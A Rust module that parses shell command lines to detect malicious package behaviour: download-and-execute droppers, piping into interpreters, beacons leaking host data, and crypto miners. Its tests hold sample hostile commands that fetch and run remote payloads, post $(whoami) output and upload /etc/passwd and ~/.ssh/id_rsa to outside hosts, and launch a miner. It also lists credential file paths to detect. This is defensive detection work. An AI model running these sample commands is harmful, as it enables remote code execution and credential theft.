//! A small reader of shell command lines, for the rules that judge what a
//! package hands to `os.system`, `subprocess` or `child_process`.
//!
//! It is not a shell: it splits a line into commands at `;`, `&&`, `||`,
//! `|`, `&` and new lines (outside quotes and `$(…)`), splits each command
//! into words with the quotes removed, looks inside `sh -c "…"`,
//! `cmd /c …` and `powershell -c …`, and reads what the droppers and
//! beacons among the dev set do with those words:
//!
//! - **downloads** — `curl` (`-o F`, `-O`, combined `-sLo F`, `> F`),
//!   `wget` (saves by default; `-O F`, `-qO F`, `-O -` to stdout, `-P dir`),
//!   `Invoke-WebRequest`/`iwr -OutFile F`, `certutil -urlcache … URL F`,
//!   `bitsadmin /transfer … URL F`, `WebClient.DownloadFile(URL, F)`;
//! - **runs** of a downloaded file — the file as a command (`./x`, `/tmp/x`,
//!   `x.exe`), handed to an interpreter (`bash x`, `python3 x`, `node x`),
//!   started (`start x`, `Start-Process x`, `nohup x`), or a download piped
//!   straight into an interpreter (`curl … | sh`);
//! - **host data sent** — `curl`/`wget` whose URL or body carries command
//!   output of identity commands (`$(whoami)`, `` `hostname` ``, `$(id)`)
//!   or a local file (`-d @/etc/passwd`, `--upload-file ~/.ssh/id_rsa`);
//! - **mining** — a miner's argument shape: a pool URL (`stratum+tcp://`),
//!   `xmrig`, `--donate-level`, or a wallet flag (`-w`/`-u`/`--wallet`)
//!   followed by a long cryptocurrency address.
//!
//! Placeholders left by f-strings and `%`/`.format` (`{}`, `%s`) stay in
//! the words, so `wget -O /tmp/{} URL && /tmp/{}` links the download to
//! the run as the shell would.

/// Limits: commands longer than this are read only up to it.
const MAX_LEN: usize = 16 * 1024;
/// How deep `sh -c "sh -c …"` is followed.
const MAX_DEPTH: usize = 4;

/// A file saved by a download command.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Download {
    /// The URL fetched.
    pub url: String,
    /// Where it lands (a path, as written), or `None` for standard output.
    pub dest: Option<String>,
    /// The download's output goes into an interpreter (`curl … | sh`).
    pub piped_to_interpreter: bool,
}

/// What a command line does, as far as the rules care.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Shell {
    /// Every download, in order.
    pub downloads: Vec<Download>,
    /// Paths the line runs (commands, interpreter scripts, started files).
    pub runs: Vec<String>,
    /// Paths the line makes executable (`chmod +x`, `chmod 755`).
    pub chmods: Vec<String>,
    /// A `curl`/`wget` carrying identity command output or a local file:
    /// the word that carries it.
    pub sends_host_data: Option<String>,
    /// A miner's argument shape: the word that shows it.
    pub miner: Option<String>,
}

impl Shell {
    /// A downloaded file is run, or a download is piped into an
    /// interpreter, within this one line.
    #[must_use]
    pub fn fetches_and_runs(&self) -> bool {
        self.downloads
            .iter()
            .any(|d| d.piped_to_interpreter || d.dest.as_deref().is_some_and(|p| self.runs_path(p)))
    }

    /// The line runs `path` (same path, or same file name when either side
    /// has no folder).
    #[must_use]
    pub fn runs_path(&self, path: &str) -> bool {
        self.runs.iter().any(|r| same_file(r, path))
    }

    /// Paths the line saves downloads to.
    pub fn dests(&self) -> impl Iterator<Item = &str> {
        self.downloads.iter().filter_map(|d| d.dest.as_deref())
    }
}

/// True when two paths name the same file as far as a reader can tell:
/// equal, or equal file names when one of them has no folder part.
#[must_use]
pub fn same_file(a: &str, b: &str) -> bool {
    let norm = |s: &str| s.trim().trim_start_matches("./").replace('\\', "/");
    let (a, b) = (norm(a), norm(b));
    if a.is_empty() || b.is_empty() {
        return false;
    }
    if a.eq_ignore_ascii_case(&b) {
        return true;
    }
    let name = |s: &str| s.rsplit('/').next().unwrap_or("").to_ascii_lowercase();
    let (na, nb) = (name(&a), name(&b));
    // A bare placeholder (`{}`) or a one-letter name says too little.
    let informative = na.len() > 3 && na != "{}" && na.chars().any(|c| c.is_ascii_alphabetic());
    informative && na == nb && (!a.contains('/') || !b.contains('/'))
}

/// Read one command line.
#[must_use]
pub fn analyse(line: &str) -> Shell {
    let mut out = Shell::default();
    let line = clip(line, MAX_LEN);
    read_line(line, 0, &mut out);
    out
}

fn clip(s: &str, max: usize) -> &str {
    if s.len() <= max {
        return s;
    }
    let mut end = max;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    &s[..end]
}

/// How one command is joined to the next.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Join {
    Seq,
    Pipe,
}

fn read_line(line: &str, depth: usize, out: &mut Shell) {
    let commands = split_commands(line);
    let mut prev_download: Option<usize> = None;
    for (i, (cmd, _)) in commands.iter().enumerate() {
        let piped_in = i > 0 && commands[i - 1].1 == Join::Pipe;
        let (words, stdout_to) = strip_redirects(words(cmd));
        // `os.system('"curl.exe -O URL"')`: cmd.exe strips the outer quotes.
        if depth < MAX_DEPTH && words.len() == 1 && words[0].contains(char::is_whitespace) {
            read_line(&words[0], depth + 1, out);
            continue;
        }
        let Some(mut at) = first_command_word(&words) else {
            prev_download = None;
            continue;
        };
        let name = command_name(&words[at]);
        // Wrappers that run the rest of the words as the command.
        if matches!(
            name.as_str(),
            "nohup" | "sudo" | "exec" | "setsid" | "nice" | "timeout" | "env"
        ) && at + 1 < words.len()
        {
            at += 1;
            while at < words.len() && (words[at].starts_with('-') || words[at].contains('=')) {
                at += 1;
            }
            if name == "timeout" && at < words.len() {
                at += 1;
            }
        }
        let Some(w0) = words.get(at) else { continue };
        let name = command_name(w0);
        let args = &words[at + 1..];
        if piped_in
            && is_interpreter(&name)
            && !args.iter().any(|a| !a.starts_with('-'))
            && let Some(d) = prev_download.and_then(|k| out.downloads.get_mut(k))
        {
            d.piped_to_interpreter = true;
        }
        prev_download = None;
        if depth < MAX_DEPTH
            && let Some(inner) = inline_script(&name, args)
        {
            read_line(&inner, depth + 1, out);
            continue;
        }
        match name.as_str() {
            "curl" | "wget" | "iwr" | "invoke-webrequest" | "invoke-restmethod" | "irm" => {
                if let Some(d) = download(&name, args, stdout_to.as_deref()) {
                    prev_download = Some(out.downloads.len());
                    out.downloads.push(d);
                }
                if out.sends_host_data.is_none() && (name == "curl" || name == "wget") {
                    out.sends_host_data = host_data_word(args);
                }
            }
            "certutil" | "bitsadmin" => {
                if let Some(d) = windows_download(args) {
                    out.downloads.push(d);
                }
            }
            "chmod" => {
                if args
                    .first()
                    .is_some_and(|m| m.contains('x') || m.starts_with('7') || m.starts_with('5'))
                {
                    out.chmods.extend(args.iter().skip(1).cloned());
                }
            }
            "start" | "start-process" | "saps" | "open" | "xdg-open" | "explorer" => {
                if let Some(t) = args
                    .iter()
                    .filter(|a| !a.starts_with('-') && !a.starts_with('/'))
                    .find(|a| !a.trim_matches('"').is_empty())
                    .or_else(|| args.iter().find(|a| !a.starts_with('-')))
                {
                    out.runs.push(t.trim_matches('"').to_owned());
                }
            }
            n if is_interpreter(n) => {
                if let Some(script) = args.iter().find(|a| !a.starts_with('-')) {
                    out.runs.push(script.clone());
                }
            }
            _ => out.runs.push(w0.clone()),
        }
        if out.miner.is_none() {
            out.miner = miner_word(&name, args);
        }
        // PowerShell's WebClient, spelled out inside a longer script.
        if cmd.to_ascii_lowercase().contains("downloadfile(")
            && let Some(d) = webclient_download(cmd)
        {
            out.downloads.push(d);
        }
    }
}

/// Split at `;`, `&&`, `||`, `|`, `&` and new lines, outside quotes and
/// `$(…)`/backticks.
fn split_commands(line: &str) -> Vec<(String, Join)> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let (mut sq, mut dq, mut bt) = (false, false, false);
    let mut paren = 0usize;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\\' if !sq => {
                cur.push(c);
                if let Some(n) = chars.next() {
                    cur.push(n);
                }
                continue;
            }
            '\'' if !dq && !bt => sq = !sq,
            '"' if !sq => dq = !dq,
            '`' if !sq => bt = !bt,
            '(' if !sq && cur.ends_with('$') => paren += 1,
            ')' if !sq && paren > 0 => paren -= 1,
            _ => {}
        }
        let free = !sq && !dq && !bt && paren == 0;
        if free && matches!(c, ';' | '\n' | '&' | '|') {
            let join = if c == '|' && chars.peek() != Some(&'|') {
                Join::Pipe
            } else {
                Join::Seq
            };
            // `2>&1`, `>&2`: a redirection, not a separator.
            if c == '&' && (cur.ends_with('>') || chars.peek() == Some(&'>')) {
                cur.push(c);
                continue;
            }
            if matches!(chars.peek(), Some('&' | '|')) {
                chars.next();
            }
            if !cur.trim().is_empty() {
                out.push((std::mem::take(&mut cur), join));
            }
            cur.clear();
            continue;
        }
        cur.push(c);
    }
    if !cur.trim().is_empty() {
        out.push((cur, Join::Seq));
    }
    out
}

/// Split one command into words, quotes removed, redirections kept as
/// their own words (`>`, `>>`, `2>`).
fn words(cmd: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut has = false;
    let (mut sq, mut dq) = (false, false);
    let mut paren = 0usize;
    let mut chars = cmd.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\'' if !dq => {
                sq = !sq;
                has = true;
            }
            '"' if !sq => {
                dq = !dq;
                has = true;
            }
            '\\' if !sq && chars.peek().is_some_and(|n| matches!(n, '"' | '\\' | ' ')) => {
                if let Some(n) = chars.next() {
                    cur.push(n);
                }
            }
            '(' if !sq && cur.ends_with('$') => {
                paren += 1;
                cur.push(c);
            }
            ')' if !sq && paren > 0 => {
                paren -= 1;
                cur.push(c);
            }
            c if c.is_whitespace() && !sq && !dq && paren == 0 => {
                if has || !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                }
                has = false;
            }
            '>' if !sq && !dq && paren == 0 => {
                let fd: String = if cur.chars().all(|c| c.is_ascii_digit()) {
                    std::mem::take(&mut cur)
                } else {
                    if !cur.is_empty() {
                        out.push(std::mem::take(&mut cur));
                    }
                    String::new()
                };
                let mut op = format!("{fd}>");
                if chars.peek() == Some(&'>') {
                    chars.next();
                    op.push('>');
                }
                out.push(op);
                has = false;
            }
            _ => cur.push(c),
        }
    }
    if has || !cur.is_empty() {
        out.push(cur);
    }
    out
}

/// Remove redirections (`> f`, `2>&1`, `>> f`) from a command's words,
/// keeping where standard output goes.
fn strip_redirects(words: Vec<String>) -> (Vec<String>, Option<String>) {
    let mut out = Vec::with_capacity(words.len());
    let mut stdout_to = None;
    let mut it = words.into_iter();
    while let Some(w) = it.next() {
        let Some(fd) = w.strip_suffix('>').map(|f| f.trim_end_matches('>')) else {
            out.push(w);
            continue;
        };
        let target = it.next();
        if let Some(t) = target.filter(|t| !t.starts_with('&'))
            && (fd.is_empty() || fd == "1")
        {
            stdout_to = Some(t);
        }
    }
    (out, stdout_to)
}

/// The index of the command word: after `VAR=value` assignments and the
/// shell's own keywords (`do`, `then`, `{`).
fn first_command_word(words: &[String]) -> Option<usize> {
    words.iter().position(|w| {
        let assignment =
            w.contains('=') && !w.starts_with('-') && !w.contains('/') && !w.contains(' ');
        let keyword = matches!(
            w.as_str(),
            "do" | "then" | "else" | "elif" | "{" | "(" | "!" | "time"
        );
        !(assignment || keyword)
    })
}

/// The command's name: file name, lower-case, `.exe` dropped
/// (`C:\\Python\\python.exe` → `python`).
#[must_use]
pub fn command_name(w: &str) -> String {
    let base = w
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(w)
        .to_ascii_lowercase();
    base.strip_suffix(".exe").map(str::to_owned).unwrap_or(base)
}

/// A shell or interpreter that runs the code or script it is given (by
/// [`command_name`]).
#[must_use]
pub fn is_interpreter(name: &str) -> bool {
    matches!(
        name,
        "sh" | "bash"
            | "zsh"
            | "dash"
            | "ksh"
            | "python"
            | "python2"
            | "python3"
            | "pythonw"
            | "py"
            | "perl"
            | "ruby"
            | "node"
            | "php"
            | "iex"
            | "invoke-expression"
            | "powershell"
            | "pwsh"
            | "wscript"
            | "cscript"
            | "mshta"
            | "rundll32"
            | "regsvr32"
            | "msiexec"
    ) || (name.starts_with("python3.") && name[8..].chars().all(|c| c.is_ascii_digit()))
}

/// `sh -c "…"`, `bash -c '…'`, `cmd /c …`, `powershell -c …`: the script
/// they run.
fn inline_script(name: &str, args: &[String]) -> Option<String> {
    match name {
        "sh" | "bash" | "zsh" | "dash" | "ksh" => {
            let i = args
                .iter()
                .position(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('c'))?;
            args.get(i + 1).cloned()
        }
        "cmd" => {
            let i = args
                .iter()
                .position(|a| a.eq_ignore_ascii_case("/c") || a.eq_ignore_ascii_case("/k"))?;
            Some(args[i + 1..].join(" "))
        }
        "powershell" | "pwsh" => {
            let i = args.iter().position(|a| {
                let a = a.to_ascii_lowercase();
                a == "-c" || a == "-command" || a == "/c"
            });
            match i {
                Some(i) => Some(args[i + 1..].join(" ")),
                // `powershell Start-Process x`: the rest is the script.
                None => {
                    let rest: Vec<&String> = args
                        .iter()
                        .skip_while(|a| a.starts_with('-') || a.starts_with('/'))
                        .collect();
                    (!rest.is_empty()).then(|| {
                        rest.iter()
                            .map(|s| s.as_str())
                            .collect::<Vec<_>>()
                            .join(" ")
                    })
                }
            }
        }
        _ => None,
    }
}

fn is_url(w: &str) -> bool {
    let l = w.to_ascii_lowercase();
    l.starts_with("http://") || l.starts_with("https://") || l.starts_with("ftp://")
}

/// The file name a URL's path ends in (`…/x.sh?dl=1` → `x.sh`).
fn url_file_name(url: &str) -> Option<String> {
    let path = url.split(['?', '#']).next().unwrap_or(url);
    let rest = path.split_once("://").map_or(path, |(_, r)| r);
    let (_, p) = rest.split_once('/')?;
    let name = p.rsplit('/').next().unwrap_or("");
    (!name.is_empty()).then(|| name.to_owned())
}

fn download(name: &str, args: &[String], stdout_to: Option<&str>) -> Option<Download> {
    let url = args.iter().find(|a| is_url(a))?.clone();
    let mut dest: Option<String> = None;
    let mut stdout = true;
    let mut i = 0;
    while i < args.len() {
        let a = &args[i];
        let next = args.get(i + 1);
        match name {
            "curl" => {
                if a == "--output" || a == "-o" {
                    dest = next.cloned();
                    stdout = false;
                    i += 2;
                    continue;
                }
                if a == "--remote-name" || a == "-O" || a == "--remote-name-all" {
                    stdout = false;
                } else if a.starts_with('-') && !a.starts_with("--") && a.len() > 1 {
                    let flags = &a[1..];
                    if let Some(pos) = flags.find('o') {
                        stdout = false;
                        // `-sLo F` or `-oF`
                        dest = if pos + 1 < flags.len() {
                            Some(flags[pos + 1..].to_owned())
                        } else {
                            next.cloned()
                        };
                        i += if pos + 1 < flags.len() { 1 } else { 2 };
                        continue;
                    }
                    if flags.contains('O') {
                        stdout = false;
                    }
                }
            }
            "wget" => {
                stdout = false;
                if a == "--output-document" || a == "-O" {
                    dest = next.cloned();
                    i += 2;
                    continue;
                }
                if let Some(v) = a.strip_prefix("--output-document=") {
                    dest = Some(v.to_owned());
                } else if a == "-P" || a == "--directory-prefix" {
                    if let (Some(dir), Some(f)) = (next, url_file_name(&url)) {
                        dest = Some(format!("{}/{f}", dir.trim_end_matches('/')));
                    }
                    i += 2;
                    continue;
                } else if a.starts_with('-') && !a.starts_with("--") && a.len() > 1 {
                    let flags = &a[1..];
                    if let Some(pos) = flags.find('O') {
                        dest = if pos + 1 < flags.len() {
                            Some(flags[pos + 1..].to_owned())
                        } else {
                            next.cloned()
                        };
                        i += if pos + 1 < flags.len() { 1 } else { 2 };
                        continue;
                    }
                }
            }
            _ => {
                // Invoke-WebRequest / iwr
                if a.eq_ignore_ascii_case("-outfile") || a.eq_ignore_ascii_case("-o") {
                    dest = next.cloned();
                    stdout = false;
                    i += 2;
                    continue;
                }
            }
        }
        i += 1;
    }
    if let Some(to) = stdout_to.filter(|_| stdout)
        && to != "/dev/null"
        && !to.eq_ignore_ascii_case("nul")
    {
        dest = Some(to.to_owned());
        stdout = false;
    }
    if dest.as_deref() == Some("-") {
        dest = None;
        stdout = true;
    }
    if !stdout && dest.is_none() {
        dest = url_file_name(&url);
    }
    Some(Download {
        url,
        dest,
        piped_to_interpreter: false,
    })
}

/// `certutil -urlcache -split -f URL F`, `bitsadmin /transfer job URL F`.
fn windows_download(args: &[String]) -> Option<Download> {
    let i = args.iter().position(|a| is_url(a))?;
    let dest = args
        .get(i + 1)
        .filter(|a| !a.starts_with('-') && !a.starts_with('/'))
        .cloned()
        .or_else(|| url_file_name(&args[i]));
    Some(Download {
        url: args[i].clone(),
        dest,
        piped_to_interpreter: false,
    })
}

/// `(New-Object Net.WebClient).DownloadFile('URL', 'F')` inside a script.
fn webclient_download(cmd: &str) -> Option<Download> {
    let l = cmd.to_ascii_lowercase();
    let at = l.find("downloadfile(")? + "downloadfile(".len();
    let inner = cmd.get(at..)?;
    let inner = inner.split(')').next()?;
    let mut parts = inner
        .split(',')
        .map(|p| p.trim().trim_matches(['\'', '"']).to_owned());
    let url = parts.next().filter(|u| is_url(u))?;
    let dest = parts.next().filter(|d| !d.is_empty());
    Some(Download {
        url,
        dest,
        piped_to_interpreter: false,
    })
}

/// Identity commands whose output a beacon sends.
const IDENTITY: &[&str] = &[
    "whoami",
    "hostname",
    "id",
    "uname",
    "ifconfig",
    "ip",
    "netstat",
    "ss",
    "env",
    "printenv",
    "cat /etc/passwd",
    "cat /etc/hosts",
    "ls ~",
    "ls /home",
];

/// A `curl`/`wget` word carrying identity command output or a local file.
fn host_data_word(args: &[String]) -> Option<String> {
    let mut prev = "";
    for a in args {
        if command_substitutions(a).iter().any(|s| runs_identity(s)) {
            return Some(a.clone());
        }
        // `-d @file`, `-F f=@file`, `-T file`, `--post-file=file`
        let file = match prev {
            "-d" | "--data" | "--data-binary" | "--data-raw" | "--data-urlencode" => {
                a.strip_prefix('@')
            }
            "-F" | "--form" => a.split_once("=@").map(|(_, f)| f),
            "-T" | "--upload-file" | "--post-file" | "--body-file" => Some(a.as_str()),
            _ => a
                .strip_prefix("--post-file=")
                .or_else(|| a.strip_prefix("--body-file=")),
        };
        if file.is_some_and(is_sensitive_path) {
            return Some(a.clone());
        }
        prev = a;
    }
    None
}

/// A substituted command that prints who or where the host is.
fn runs_identity(script: &str) -> bool {
    split_commands(script).iter().any(|(cmd, _)| {
        let cmd = cmd.trim();
        IDENTITY
            .iter()
            .any(|id| cmd == *id || cmd.starts_with(&format!("{id} ")))
    })
}

/// The inner commands of `$(…)` and `` `…` `` in a word.
fn command_substitutions(w: &str) -> Vec<String> {
    let mut out = Vec::new();
    let b = w.as_bytes();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'$' && b.get(i + 1) == Some(&b'(') {
            let start = i + 2;
            let mut depth = 1;
            let mut j = start;
            while j < b.len() && depth > 0 {
                match b[j] {
                    b'(' => depth += 1,
                    b')' => depth -= 1,
                    _ => {}
                }
                j += 1;
            }
            let end = if depth == 0 { j - 1 } else { j };
            if let Some(s) = w.get(start..end) {
                out.push(s.to_owned());
            }
            i = j;
        } else if b[i] == b'`' {
            if let Some(k) = w[i + 1..].find('`') {
                out.push(w[i + 1..i + 1 + k].to_owned());
                i += k + 2;
            } else {
                break;
            }
        } else {
            i += 1;
        }
    }
    out
}

/// Files whose upload is theft: keys, credentials, account databases.
fn is_sensitive_path(p: &str) -> bool {
    let l = p.to_ascii_lowercase();
    !l.is_empty()
        && [
            "/etc/passwd",
            "/etc/shadow",
            ".ssh/",
            "id_rsa",
            "id_ed25519",
            ".aws/credentials",
            ".npmrc",
            ".pypirc",
            ".git-credentials",
            ".netrc",
            ".bash_history",
            ".kube/config",
            ".docker/config.json",
            "/proc/self/environ",
        ]
        .iter()
        .any(|s| l.contains(s))
}

/// A miner's argument shape.
fn miner_word(name: &str, args: &[String]) -> Option<String> {
    const MINERS: &[&str] = &[
        "xmrig",
        "xmr-stak",
        "cpuminer",
        "minerd",
        "t-rex",
        "nbminer",
        "lolminer",
        "phoenixminer",
        "ethminer",
        "nanominer",
        "srbminer-multi",
    ];
    if MINERS.contains(&name) {
        return Some(name.to_owned());
    }
    let mut prev = "";
    for a in args {
        let l = a.to_ascii_lowercase();
        let pool = l.starts_with("stratum+tcp://")
            || l.starts_with("stratum+ssl://")
            || l.starts_with("stratum2+");
        let donate = l == "--donate-level" || l.starts_with("--donate-level=");
        let wallet = matches!(prev, "-w" | "--wallet" | "-u" | "--user" | "--address")
            && is_wallet_address(a);
        if pool || donate || wallet {
            return Some(a.clone());
        }
        prev = a;
    }
    None
}

/// A long cryptocurrency address: `dero1…`, `4…` Monero (95 chars), `0x`
/// + 40 hex, bech32 `bc1…`, Ravencoin/Litecoin/Tron base58 of wallet length.
#[must_use]
pub fn is_wallet_address(w: &str) -> bool {
    let w = w.split(['.', '+']).next().unwrap_or(w);
    let alnum = w.chars().all(|c| c.is_ascii_alphanumeric());
    if !alnum {
        return false;
    }
    let l = w.to_ascii_lowercase();
    (l.starts_with("dero1") && w.len() >= 60)
        || ((w.starts_with('4') || w.starts_with('8')) && w.len() == 95)
        || (l.starts_with("0x") && w.len() == 42 && w[2..].chars().all(|c| c.is_ascii_hexdigit()))
        || (l.starts_with("bc1") && w.len() >= 42)
        || ((w.starts_with('R') || w.starts_with('L') || w.starts_with('T') || w.starts_with('D'))
            && w.len() == 34)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn wget_combined_flags_then_run_elsewhere() {
        let s = analyse("wget -qO /tmp/{} https://203.0.113.7/bwt2 && chmod +x /tmp/{}");
        assert_eq!(s.dests().collect::<Vec<_>>(), vec!["/tmp/{}"]);
        assert_eq!(s.chmods, vec!["/tmp/{}"]);
        assert!(!s.fetches_and_runs());
        let run = analyse("while true; do /tmp/{} -r pool:1 -w x; sleep 5; done");
        assert!(run.runs_path("/tmp/{}"));
    }

    #[test]
    fn download_then_interpreter_runs_it() {
        let s = analyse(
            "wget https://203.0.113.7/p.py?rlkey=1 -O /tmp/.cache.py >/dev/null 2>&1 && chmod +x /tmp/.cache.py >/dev/null 2>&1 && python3 /tmp/.cache.py >/dev/null 2>&1 &",
        );
        assert!(s.fetches_and_runs(), "{s:?}");
    }

    #[test]
    fn curl_remote_name_and_windows_exe() {
        let s = analyse("\"curl.exe -OLJ https://203.0.113.7/raw/astro.exe\"");
        assert_eq!(s.dests().collect::<Vec<_>>(), vec!["astro.exe"]);
        let r = analyse(
            "\"astro.exe -w dero1qy55mvck6ey54yptg0a5tervwzrxt0al5d26l02llpm4qwt88lxzwqqpqntf9 -r 203.0.113.7:12100\"",
        );
        assert!(r.runs_path("astro.exe"));
        assert!(r.miner.is_some());
    }

    #[test]
    fn piped_into_a_shell() {
        assert!(analyse("curl -fsSL https://203.0.113.7/i.sh | sudo bash").fetches_and_runs());
        assert!(analyse("wget -qO- https://203.0.113.7/i.sh | sh -s -- --x").fetches_and_runs());
        // piping into grep or tar is not running it
        assert!(!analyse("curl -s https://203.0.113.7/v.json | grep version").fetches_and_runs());
        assert!(!analyse("curl -sL https://203.0.113.7/x.tgz | tar xz").fetches_and_runs());
    }

    #[test]
    fn inline_scripts_are_read() {
        let s = analyse("bash -c 'curl -o /tmp/x.sh https://203.0.113.7/x.sh; bash /tmp/x.sh'");
        assert!(s.fetches_and_runs());
        let p = analyse("cmd /c start %TEMP%\\svc.exe");
        assert!(p.runs_path("svc.exe"));
        let ps = analyse("powershell.exe Start-Process -FilePath putty.exe");
        assert!(ps.runs_path("putty.exe"), "{ps:?}");
        let wc = analyse(
            "powershell -c \"(New-Object Net.WebClient).DownloadFile('https://203.0.113.7/a.exe','C:\\\\Users\\\\Public\\\\a.exe'); Start-Process 'C:\\\\Users\\\\Public\\\\a.exe'\"",
        );
        assert!(wc.fetches_and_runs(), "{wc:?}");
    }

    #[test]
    fn host_data_in_a_request() {
        let s = analyse(
            "curl https://hook.example/w?us=$(whoami) -d \"$(which ss && ss -ntpla; which netstat && netstat -ntloa)\"",
        );
        assert!(s.sends_host_data.is_some(), "{s:?}");
        assert!(
            analyse("curl -X POST -d @/etc/passwd https://203.0.113.7/")
                .sends_host_data
                .is_some()
        );
        assert!(
            analyse("curl -F f=@/root/.ssh/id_rsa https://203.0.113.7/")
                .sends_host_data
                .is_some()
        );
        // ordinary uploads and version queries are not host data
        assert!(
            analyse("curl -d @payload.json https://api.example/v1")
                .sends_host_data
                .is_none()
        );
        assert!(
            analyse("curl -H \"X-Version: $(git describe)\" https://api.example/")
                .sends_host_data
                .is_none()
        );
    }

    #[test]
    fn ordinary_commands_are_quiet() {
        for c in [
            "git clone https://example.invalid/x.git",
            "curl -s https://api.example/v1/status",
            "make -j4 && make install",
            "wget -q -O - https://example.invalid/key.asc | gpg --import",
            "echo done > /tmp/log 2>&1",
        ] {
            let s = analyse(c);
            assert!(!s.fetches_and_runs(), "{c}: {s:?}");
            assert!(s.sends_host_data.is_none(), "{c}");
            assert!(s.miner.is_none(), "{c}");
        }
    }

    #[test]
    fn hostile_lines_stay_cheap() {
        let long = "$(".repeat(50_000);
        let _ = analyse(&long);
        let quotes = "'\"`".repeat(20_000);
        let _ = analyse(&quotes);
        let _ = analyse("curl -o");
        let _ = analyse("wget -O");
        let _ = analyse("bash -c");
        let _ = analyse("cmd /c");
        let nested = "sh -c \"".repeat(100);
        let _ = analyse(&nested);
    }
}
